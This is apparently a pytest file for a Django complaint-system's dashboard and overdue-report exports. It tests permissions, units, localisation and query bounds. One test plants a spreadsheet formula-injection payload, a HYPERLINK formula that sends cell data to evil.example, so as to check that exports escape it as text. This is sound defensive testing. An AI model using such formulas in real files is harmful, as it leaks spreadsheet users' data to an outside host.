"""Exports of the dashboards' figures and of the overdue list, read back with the csv
module and openpyxl; the same permission rules as the dashboards."""

from __future__ import annotations

import csv
import io
import math

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from aduan.analytics import metrics
from aduan.deadlines import calendar
from aduan.reports.models import Report
from tests.test_dashboards import DECEMBER, JANUARY, make_dated_reports

EXPORTS = ["monev:export_csv", "monev:export_xlsx", "monev:overdue_csv", "monev:overdue_xlsx"]


@pytest.fixture
def dated(world):
    return make_dated_reports(world)


def download(client, user, name: str, **params):
    client.force_login(user)
    return client.get(reverse(name), params)


def csv_sections(response) -> dict[str, list[list[str]]]:
    """Title → rows (header first) of each table in a sectioned CSV export."""
    text = response.content.decode("utf-8-sig")
    sections: dict[str, list[list[str]]] = {}
    current = None
    for row in csv.reader(io.StringIO(text)):
        if not row:
            current = None
        elif current is None:
            current = sections.setdefault(row[0], [])
        else:
            current.append(row)
    return sections


def by_key(rows: list[list]) -> dict:
    header = rows[0]
    return {row[1]: dict(zip(header, row, strict=True)) for row in rows[1:]}


@pytest.mark.parametrize("name", EXPORTS)
def test_outsider_is_refused(client, world, name):
    assert download(client, world.outsider, name).status_code == 403
    # An auditor downloads the figures, never a list of reports.
    expected = 403 if name.startswith("monev:overdue") else 200
    assert download(client, world.auditor, name).status_code == expected


@pytest.mark.parametrize("name", EXPORTS)
def test_anonymous_visitor_is_sent_to_sign_in(client, world, name):
    assert client.get(reverse(name)).status_code == 302


@pytest.mark.parametrize("name", EXPORTS)
def test_drilling_outside_ones_subtree_gets_404(client, world, name):
    assert download(client, world.liaison_b, name, org=world.unit_a.pk).status_code == 404
    assert download(client, world.other_admin, name, org=world.agency.pk).status_code == 404


def test_the_csv_export_holds_the_key_figures_with_the_previous_month(client, world, dated):
    response = download(
        client, world.agency_admin, "monev:export_csv", org=world.agency.pk, month="2026-01"
    )
    assert response["Content-Type"].startswith("text/csv")
    assert "monev-kab-contoh-20260101-20260131.csv" in response["Content-Disposition"]
    sections = csv_sections(response)
    current = metrics.summary(world.agency, JANUARY)
    previous = metrics.summary(world.agency, DECEMBER)
    figures = by_key(next(rows for title, rows in sections.items() if "received" in str(rows)))
    received = list(figures["received"].values())
    assert received[3:6] == [str(current["received"]), str(previous["received"]), "1"]
    rate = list(figures["follow_up_rate"].values())
    assert float(rate[3]) == pytest.approx(current["follow_up_rate"])  # 0.5
    assert float(rate[4]) == pytest.approx(previous["follow_up_rate"])  # 1.0
    assert float(rate[5]) == pytest.approx(-0.5)
    assert rate[2] == "share"
    # A figure with nothing to measure is an empty cell, not a zero.
    assert list(figures["within_deadline_verification"].values())[3] == ""


@pytest.mark.parametrize(
    ("language", "header", "names"),
    [
        ("id", "Satuan", ["jumlah", "proporsi (1 = 100%)", "hari kerja", "jam", "bintang (1–5)"]),
        ("en", "Unit of measure", ["number", "share (1 = 100%)", "working days", "hours"]),
    ],
)
def test_the_key_figures_name_their_unit_in_the_exports_language_beside_the_stable_code(
    client, world, dated, language, header, names
):
    client.cookies["django_language"] = language
    response = download(client, world.agency_admin, "monev:export_csv", month="2026-01")
    figures = next(rows for rows in csv_sections(response).values() if "received" in str(rows))
    # The columns programs read keep their place and their codes in every language.
    assert [row[1] for row in figures[1:3]] == ["received", "verified"]
    assert {row[2] for row in figures[1:]} == {"count", "share", "working_days", "hours", "rating"}
    assert figures[0][6] == header
    named = {row[2]: row[6] for row in figures[1:]}
    assert [named[code] for code in ("count", "share", "working_days", "hours", "rating")][
        : len(names)
    ] == names
    book = openpyxl.load_workbook(
        io.BytesIO(download(client, world.agency_admin, "monev:export_xlsx").content)
    )
    sheet = book.worksheets[1]
    assert next(sheet.iter_rows(max_row=1))[6].value == header
    assert {row[6].value for row in sheet.iter_rows(min_row=2)} >= set(names)


def test_the_csv_export_holds_the_trend_breakdowns_and_league_table(client, world, dated):
    response = download(client, world.national_admin, "monev:export_csv", month="2026-01")
    tables = list(csv_sections(response).values())
    trend = next(rows for rows in tables if rows[1][0] == "2025-02")
    assert [row[0] for row in trend[1:]][-1] == "2026-01"
    assert [row[1] for row in trend[1:]][-2:] == ["1", "3"]  # December, January received
    categories = next(rows for rows in tables if rows[1][0] == "Infrastruktur")
    assert categories[1] == ["Infrastruktur", str(world.roads.pk), "3"]
    league = tables[-2]
    names = {row[1] for row in league[1:]}
    assert {world.agency.name, world.other_agency.name} <= names
    agencies = {row[1]: row for row in tables[-1][1:]}  # the dashboard's agencies box
    overview = metrics.agencies_overview(None)
    assert int(agencies["connected"][2]) == overview["connected"]
    assert int(agencies["agencies"][2]) == overview["agencies"]


def test_the_xlsx_export_reads_back_with_numbers_and_percent_formats(client, world, dated):
    response = download(
        client, world.supervisor, "monev:export_xlsx", org=world.agency.pk, month="2026-01"
    )
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    # About, key figures, trend, 5 breakdowns, league, and the agencies box.
    assert len(book.sheetnames) == 10
    sheet = book.worksheets[1]
    rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    current = metrics.summary(world.agency, JANUARY)
    assert rows["received"][3].value == current["received"] == 2
    assert rows["followed_up"][3].value == current["followed_up"]  # the counts, too
    assert rows["follow_up_rate"][3].value == pytest.approx(0.5)
    assert rows["follow_up_rate"][3].number_format == "0.0%"
    assert rows["median_verification_working_days"][3].value == pytest.approx(
        current["median_verification_working_days"]
    )
    assert rows["within_deadline_verification"][3].value is None
    league = book.worksheets[-2]
    units = [row[1].value for row in league.iter_rows(min_row=2)]
    assert units == [world.unit_a.name, world.unit_b.name]


def test_the_overdue_exports_list_every_overdue_report_and_no_reporter(client, world, dated):
    late = dated[2]
    response = download(client, world.supervisor, "monev:overdue_csv")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert [row[0] for row in rows[2:] if row] == [late.tracking_code]
    assert world.unit_b.name in rows[2]
    assert world.citizen.full_name not in text and world.citizen.email not in text
    book = openpyxl.load_workbook(
        io.BytesIO(download(client, world.supervisor, "monev:overdue_xlsx").content)
    )
    sheet = book.active
    assert [c.value for c in next(sheet.iter_rows(min_row=2))][0] == late.tracking_code
    # Days late are whole working days, as the overdue page and the recap count them.
    late.refresh_from_db()
    working = calendar.current().working_days_between(late.due_at, timezone.now(), "Asia/Jakarta")
    assert sheet.cell(2, 8).value in (math.floor(working), math.floor(working) - 1)
    assert sheet.cell(2, 8).value < (timezone.now() - late.due_at).days


def test_a_title_written_as_a_formula_is_exported_as_text(client, world, dated):
    formula = '=HYPERLINK("http://evil.example/?d="&B3,"Lihat foto")'
    Report.objects.filter(pk=dated[2].pk).update(title=formula)

    text = download(client, world.supervisor, "monev:overdue_csv").content.decode("utf-8-sig")
    book = openpyxl.load_workbook(
        io.BytesIO(download(client, world.supervisor, "monev:overdue_xlsx").content)
    )

    titles = [row[1] for row in csv.reader(io.StringIO(text)) if len(row) > 1]
    assert "'" + formula in titles and formula not in titles
    cell = book.active.cell(2, 2)
    assert (cell.value, cell.data_type) == ("'" + formula, "s")


def test_the_overdue_export_of_unit_a_is_empty(client, world, dated):
    response = download(client, world.liaison_a, "monev:overdue_csv")
    rows = [row for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) if row]
    assert len(rows) == 2  # title and header only


def test_exports_cost_a_bounded_number_of_queries(
    client, world, dated, django_assert_max_num_queries
):
    client.force_login(world.agency_admin)
    with django_assert_max_num_queries(40):
        client.get(reverse("monev:export_xlsx"), {"month": "2026-01"})
    with django_assert_max_num_queries(8):
        client.get(reverse("monev:overdue_csv"))
